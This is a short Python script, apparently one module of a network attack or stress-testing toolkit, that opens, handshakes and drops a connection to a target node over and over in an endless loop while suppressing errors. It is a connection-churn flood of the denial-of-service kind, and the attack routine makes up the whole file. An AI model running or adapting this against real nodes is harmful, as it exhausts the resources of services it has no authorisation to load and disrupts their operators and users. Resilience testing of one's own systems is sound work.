"""Shake hands and leave, as fast as the node allows, on each connection anew."""

import argparse
import contextlib

from attack import Line, arguments, main


async def attack(line: Line, options: argparse.Namespace) -> None:
    """One connection after another, until the program ends."""
    while True:
        line.close()
        with contextlib.suppress(OSError, ConnectionError):
            line.become(await Line.open(options.address, options.source))


if __name__ == "__main__":
    main(attack, arguments())
